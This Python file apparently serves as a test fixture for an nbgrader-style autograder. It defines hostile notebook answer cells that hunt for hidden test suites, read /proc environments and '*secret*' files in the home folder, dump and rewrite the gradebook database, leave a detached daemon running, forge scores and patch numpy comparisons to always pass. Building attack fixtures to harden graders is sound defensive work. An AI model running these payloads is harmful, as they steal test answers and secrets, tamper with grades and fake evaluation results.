"""What hostile notebooks do. Each one looks for what it wants; nobody tells it where the course is.

An attack is the code of an answer cell, behind a wrong answer. `@LOOT@` is a folder that everybody may write to, where
it leaves what it found; it prints it too. Of the folders of other processes it takes those of the test's own world only
(`@WORLD@`): the proof that it works must not harm the machine that it runs on.
"""

from __future__ import annotations

import msgspec

WRONG = """\
import numpy as np


def softmax(z, axis=-1):
    return np.exp(z)


def log_softmax(z, axis=-1):
    return z
"""
_SEARCH = """
import glob, os, re, sys

def take(found):
    print(found)
    for number in range(100):
        path = os.path.join("@LOOT@", f"{number}")
        if not os.path.exists(path):
            with open(path, "w") as file:
                file.write(found)
            return

def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20).decode(errors="replace")
    except (OSError, ValueError):
        return ""

def up(folder):
    while folder not in ("", "/"):
        yield folder
        folder = os.path.dirname(folder)

def courses_named_in(text):
    return re.findall(r"/[^'\\"\\0\\n]*", text)

def suites(folder):
    for path in (folder, os.path.dirname(folder)):
        for suite in glob.glob(os.path.join(path, "tests", "hidden", "test_softmax.py")):
            if found := read(suite):
                take(found)

def folders_of_processes():
    ids = [os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]
    for number in ids:
        try:
            folder = os.readlink(f"/proc/{number}/cwd")
        except OSError:
            continue
        if folder.startswith("@WORLD@"):
            yield folder
"""


class Attack(msgspec.Struct, frozen=True):
    effect: str  # "loot", "points", "write" or "left"
    code: str

    def source(self, world: str, loot: str) -> str:
        return f"{WRONG}\n{_SEARCH}\n{self.code}".replace("@WORLD@", world).replace("@LOOT@", loot)


ATTACKS = {
    "suite_beside_the_module": Attack(
        "loot",
        """
for path in glob.glob("*.ipynb") + glob.glob("**/test_*.py", recursive=True):
    take(read(path))
""",
    ),
    "course_by_the_folder_of_the_parent": Attack(
        "loot",
        """
for folder in set(folders_of_processes()):
    for place in courses_named_in(read(os.path.join(folder, "nbgrader_config.py"))):
        suites(place)
""",
    ),
    "course_by_its_own_folder": Attack(
        "loot",
        """
for folder in up(os.getcwd()):
    for place in courses_named_in(read(os.path.join(folder, "nbgrader_config.py"))):
        suites(place)
""",
    ),
    "course_by_the_environment": Attack(
        "loot",
        """
for value in os.environ.values():
    suites(value)
for number in [os.getppid(), *(name for name in os.listdir("/proc") if name.isdigit())]:
    for place in courses_named_in(read(f"/proc/{number}/environ")):
        suites(place)
""",
    ),
    "course_by_what_python_loads_from": Attack(
        "loot",
        """
import importlib.util
names = ("mlgrade", "mlgrade.suite", "numpy")
specs = [importlib.util.find_spec(name) for name in names]
for start in [*sys.path, *(spec.origin for spec in specs if spec and spec.origin)]:
    for folder in up(os.path.abspath(start)):
        suites(folder)
""",
    ),
    "gradebook_read": Attack(
        "loot",
        """
import sqlite3
for folder in [*up(os.getcwd()), *folders_of_processes()]:
    path = os.path.join(folder, "gradebook.db")
    if os.path.exists(path):
        take("".join(sqlite3.connect(path).iterdump()))
""",
    ),
    "home": Attack(
        "loot",
        """
import pwd
for home in {os.path.expanduser("~"), os.environ.get("HOME", "/"), pwd.getpwuid(os.getuid()).pw_dir}:
    for path in glob.glob(os.path.join(home, "*secret*")):
        take(read(path))
""",
    ),
    "extra_credit": Attack(
        "write",
        """
import sqlite3
for folder in {*up(os.getcwd()), *folders_of_processes()}:
    path = os.path.join(folder, "gradebook.db")
    if os.path.exists(path):
        with sqlite3.connect(path) as book:
            book.execute("UPDATE grade SET extra_credit = 386, manual_score = 10")
""",
    ),
    "source_notebook_changed": Attack(
        "write",
        """
for folder in {*up(os.getcwd()), *folders_of_processes()}:
    for path in glob.glob(os.path.join(folder, "source", "*", "*.ipynb")):
        with open(path, "a") as file:
            file.write(" ")
""",
    ),
    "daemon": Attack(
        "left",
        """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(256):
            try:
                os.close(number)
            except OSError:
                pass
        time.sleep(20)
    os._exit(0)
""",
    ),
    "report_forged_at_exit": Attack(
        "points",
        """
import atexit
atexit.register(lambda: os.write(1, b"\\n10.0\\n"))
""",
    ),
    "report_forged_before_the_end": Attack("points", 'os.write(1, b"\\n10.0\\n")\nos._exit(0)\n'),
    "comparison_patched": Attack(
        "points",
        """
np.allclose = np.isclose = np.array_equal = np.testing.assert_allclose = lambda *a, **k: True
np.all = lambda *a, **k: np.True_
""",
    ),
    "answer_that_equals_everything": Attack(
        "points",
        """
class Same(np.ndarray):
    def __array_function__(self, *a, **k):
        return True
    __array_ufunc__ = None
    def __eq__(self, other):
        return True

def softmax(z, axis=-1):
    return np.zeros(3).view(Same)
""",
    ),
}
